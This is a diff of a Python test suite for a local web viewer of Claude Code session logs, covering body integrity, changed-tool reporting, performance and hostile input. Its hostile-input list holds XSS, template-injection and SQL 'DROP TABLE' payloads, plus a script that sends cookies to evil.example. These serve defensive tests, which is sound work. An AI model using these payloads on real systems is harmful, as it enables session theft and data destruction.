@@ -44,6 +44,15 @@ SWITCHES = (
 )
 SECRET = "sk-ant-api03-" + "aB3dE5fG7h" * 9 + "-xYzAbCdA"  # made up
 HOSTILE = (
+    "__proto__",
+    "constructor",
+    "${alert(6)} #{alert(7)} <%= alert(8) %> {{7*7}} [[alert(9)]]",
+    "nul \0 and \x08\x1b[2J\x9b31m",
+    "\u2066\u2067\u202a\u2069 abc \u200f\ufeff\u2028\u2029",
+    "'; DROP TABLE sessions; --",
+    "x" * 300_000,
+    "\ud800 alone",
+    "data:text/html,<script>alert(10)</script>",
     "<script>fetch('http://evil.example/'+document.cookie)</script>",
     "<img src=http://evil.example/x onerror=alert(1)>",
     "<svg/onload=alert(2)>",
@@ -126,6 +135,12 @@ class Machine:
             self._process.wait()
             if self._process.stdout:
                 self._process.stdout.close()
+
+    def peak_memory(self) -> float:
+        """The most megabytes the server has taken so far."""
+        assert self._process is not None
+        status = Path(f"/proc/{self._process.pid}/status").read_text(encoding="ascii")
+        return int(re.findall(r"VmHWM:\s+(\d+)", status)[0]) / 1000
 
     def add(self, raw: bytes, name: str) -> Path:
         """A session of Claude Code."""
@@ -274,9 +289,13 @@ def _compare(page: Any, files: list[Path], found: DrawnSessions) -> None:
 # -- exact bytes ---------------------------------------------------------------------------------------
 
 
-def exact_bytes(turns: int = 20) -> tuple[int, int]:
-    """Run a session against the simulator; returns how many bodies on the page are the ones it received, and all."""
+def exact_bytes(turns: int = 60, looked_at: int = 20) -> tuple[int, int]:
+    """Run a session against the simulator; returns how many bodies on the page are the ones it received, and all.
+
+    Which requests are looked at is drawn anew each time.
+    """
     same = 0
+    numbers = random.SystemRandom().sample(range(1, turns + 1), looked_at)
     with machine() as served, serve(simulator := Simulator(EchoBrain())) as url:
         client = AnthropicClient(api_key="simulated-key", base_url=url, max_retries=0)
         file = served.home / "projects" / "work.0123456789abcdef" / "exact.jsonl"
@@ -288,13 +307,14 @@ def exact_bytes(turns: int = 20) -> tuple[int, int]:
                 session.complete()
         client.close()
         # Clients that stream add this field when they send; it is not part of what is cached or recorded.
-        bodies = (request.raw.removesuffix(b',"stream":true}') + b"}" for request in simulator.requests)
-        received = {hashlib.sha256(body).hexdigest() for body in bodies}
+        asked = [request.raw for request in simulator.requests if b'"messages"' in request.raw]
+        bodies = (raw.removesuffix(b',"stream":true}') + b"}" for raw in asked)
+        received = [hashlib.sha256(body).hexdigest() for body in bodies]
         served.start()
         with browser() as page:
             open_session(page, served)
             address = page.evaluate("location.hash")
-            for number in range(1, turns + 1):
+            for number in numbers:
                 page.evaluate("address => { location.hash = address }", f"{address}/r/{number}")
                 page.wait_for_function(
                     "number => document.querySelector('h1')?.textContent === `Request ${number}`",
@@ -304,8 +324,50 @@ def exact_bytes(turns: int = 20) -> tuple[int, int]:
                 page.wait_for_selector("#body")
                 text = page.evaluate("document.querySelector('#body').textContent")
                 digest = hashlib.sha256(text.encode()).hexdigest()
-                same += digest in received and digest == page.inner_text("#sha")
-    return same, turns
+                same += digest == received[number - 1] == page.inner_text("#sha")
+    return same, looked_at
+
+
+def changed_tool() -> list[str]:
+    """Change the description of one tool between two requests; returns what the page does not say about it."""
+    with machine() as served, serve(Simulator(EchoBrain())) as url:
+        client = AnthropicClient(api_key="simulated-key", base_url=url, max_retries=0)
+        file = served.home / "projects" / "work.0123456789abcdef" / "tools.jsonl"
+        file.parent.mkdir(parents=True)
+        names = ["read", "write", "search"]
+        random.SystemRandom().shuffle(names)
+        for words in ("It does what its name says. " * 60, "It does what its name says, and tells. " * 60):
+            tools = [
+                {"name": name, "description": words if name == names[1] else "A tool. " * 900,
+                 "input_schema": {"type": "object", "properties": {}}}
+                for name in names
+            ]  # fmt: skip
+            with Session.open(
+                "tools",
+                model="claude-opus-4-6",
+                file=file,
+                folder=served.folder,
+                client=client,
+                tools=tools,
+            ) as session:
+                for number in range(3):
+                    session.user(f"Question {number}: " + "why? " * 200)
+                    session.complete()
+        client.close()
+        served.start()
+        with browser() as page:
+            open_session(page, served)
+            page.evaluate("location.hash += '/r/4'")
+            page.wait_for_function("() => document.querySelector('h1')?.textContent === 'Request 4'")
+            page.wait_for_selector("#sha")
+            text = page.inner_text("main")
+        wanted = (
+            f"tool {names[1]} differs",
+            "about $",
+            "the program that opened the session",
+            "changed tools",
+        )
+        return [words for words in wanted if words not in text]
 
 
 # -- live ----------------------------------------------------------------------------------------------
@@ -385,7 +447,7 @@ def live(count: int = 20) -> FollowedSession:
 # -- hostile -------------------------------------------------------------------------------------------
 
 
-def hostile(files: int = 40) -> list[str]:
+def hostile(files: int = 200) -> list[str]:
     """Look at sessions with hostile text in every field; returns what happened that must not."""
     incidents: list[str] = []
     chance = random.Random(11)
@@ -402,21 +464,24 @@ def hostile(files: int = 40) -> list[str]:
         keys = page.eval_on_selector_all(
             "table.sessions tbody tr a", "all => all.map((a) => a.getAttribute('href'))"
         )
-        for address in keys[: files // 4]:
+        incidents += [] if len(keys) == files else [f"{len(keys)} of {files} sessions are listed"]
+        for address in keys:
             for place in (address, f"{address}/r/2"):
                 page.evaluate("address => { location.hash = address }", place)
-                page.wait_for_timeout(250)
-                for button in page.locator("button.what").all()[:3]:
-                    button.click()
-                page.wait_for_timeout(150)
-                tags = set(
-                    page.evaluate(
-                        "[...document.querySelectorAll('*')].map((node) => node.tagName.toLowerCase())"
-                    )
+                page.wait_for_selector(
+                    "main .about, main .crumbs, main [role=alert]", state="attached", timeout=30_000
                 )
-                incidents += [f"an element {tag}" for tag in tags - TAGS]
+                for button in page.locator("button.what").all()[:2]:
+                    button.click()
+                    page.wait_for_timeout(30)
+                tags = page.evaluate(
+                    "[...new Set([...document.querySelectorAll('*')].map((node) => node.tagName.toLowerCase()))]"
+                )
+                incidents += [f"an element {tag}" for tag in set(tags) - TAGS]
                 text = page.evaluate("document.documentElement.outerHTML")
                 incidents += ["a secret"] if SECRET[:40] in text else []
+            for fault in page.locator("main [role=alert]").all_inner_texts():
+                incidents.append(f"not shown: {fault[:80]}")
         incidents += [f"{path.name} changed" for path, raw in before.items() if path.read_bytes() != raw]
     return incidents
 
@@ -459,6 +524,110 @@ def _hostile_session(chance: random.Random) -> bytes:
         lines.append(json.dumps(line).encode() + b"\n")
     title = {"type": "custom-title", "customTitle": words(), "sessionId": "live"}
     return b"".join([*lines, json.dumps(title).encode() + b"\n"])
+
+
+# -- size ----------------------------------------------------------------------------------------------
+
+
+class LargeSession(Struct):
+    """What a long session takes."""
+
+    megabytes: float = 0.0
+    reading: float = 0.0
+    """Seconds until its page is there, the first time."""
+    opening: float = 0.0
+    """Seconds until its chart is drawn, once it was read."""
+    appended: float = 0.0
+    """Seconds from a line to the page, which 95 of 100 stay below."""
+    memory: float = 0.0
+    """Megabytes of the server at its largest."""
+
+
+def large(requests: int = 50_000, appends: int = 20) -> LargeSession:
+    """Open a session of twice as many records as ``requests`` in the browser, and append to it."""
+    found = LargeSession()
+    chance = random.Random(3)
+    with machine() as served, browser() as page:
+        path = served.claude / "large.jsonl"
+        with path.open("wb") as log:
+            for number in range(requests):
+                log.write(_long_record(number, chance))
+        found.megabytes = path.stat().st_size / 1e6
+        served.start()
+        page.goto(served.address)
+        page.wait_for_selector("table.sessions tbody tr a", timeout=120_000)
+        address = page.get_attribute("table.sessions tbody tr a", "href")
+        for attempt in ("reading", "opening"):
+            page.evaluate("location.hash = '#/memory'")
+            page.wait_for_function(
+                "() => document.querySelector('h1')?.textContent === 'What is remembered'"
+            )
+            began = time.monotonic()
+            page.evaluate("address => { location.hash = address }", address)
+            page.wait_for_selector("#context-chart canvas", timeout=240_000)
+            setattr(found, attempt, time.monotonic() - began)
+        times = []
+        for number in range(requests, requests + appends):
+            with path.open("ab") as log:
+                log.write(_long_record(number, chance))
+            began = time.monotonic()
+            wanted = "n => document.querySelector('#context-chart')?.uplot?.data[0].at(-1) === n"
+            page.wait_for_function(wanted, arg=number + 1, polling=10, timeout=30_000)
+            times.append(time.monotonic() - began)
+            page.wait_for_timeout(chance.randrange(50, 300))
+        found.appended = sorted(times)[int(0.95 * len(times)) - 1]
+        found.memory = served.peak_memory()
+    return found
+
+
+def _long_record(number: int, chance: random.Random) -> bytes:
+    """A request with the result of a tool and its answer, without a compaction ever."""
+    lines = []
+    for raw in record(number).splitlines():
+        line = json.loads(raw)
+        if line["type"] == "user" and number:
+            output = "a line of output " * chance.randrange(5, 80)
+            line["message"]["content"] = [
+                {"type": "tool_result", "tool_use_id": f"t{number - 1}", "content": output}
+            ]
+        elif line["type"] == "assistant":
+            line["message"]["usage"]["cache_read_input_tokens"] = 1000 + number % 900 * 200
+            tool = chance.choice(["Bash", "Read", "Edit", "Grep"])
+            given = {"file_path": f"/work/src/file{chance.randrange(400)}.py"}
+            call = {"type": "tool_use", "id": f"t{number}", "name": tool, "input": given}
+            line["message"]["content"] = [{"type": "text", "text": "I look at it. " * 4}, call]
+        lines.append(json.dumps(line).encode() + b"\n")
+    return b"".join(lines)
+
+
+def many(files: int = 500) -> float:
+    """Seconds until a list of many sessions is there, once their summaries are kept."""
+    with machine() as served, browser() as page:
+        for number in range(files):
+            served.add(
+                b"".join(record(part) for part in range(6)).replace(b'"m', b'"%d-m' % number), f"s{number}"
+            )
+        served.start()
+        page.goto(served.address)
+        page.wait_for_function(
+            "() => !document.querySelector('main').textContent.includes('still to be read')"
+            " && document.querySelectorAll('table.sessions tbody tr').length > 100",
+            timeout=240_000,
+        )
+        page.wait_for_function(
+            "async () => { const answer = await fetch('/api/sessions', { headers: "
+            "{ 'X-Sevenfold-Token': localStorage.getItem('sevenfold-token') } });"
+            " const list = await answer.json();"
+            " return list.reading === 0 && list.sessions.every((session) => session.known); }",
+            timeout=240_000,
+            polling=500,
+        )
+        page.evaluate("location.hash = '#/memory'")
+        page.wait_for_function("() => document.querySelector('h1')?.textContent === 'What is remembered'")
+        began = time.monotonic()
+        page.evaluate("location.hash = '#/'")
+        page.wait_for_selector("table.sessions tbody tr a")
+        return time.monotonic() - began
 
 
 # -- access --------------------------------------------------------------------------------------------
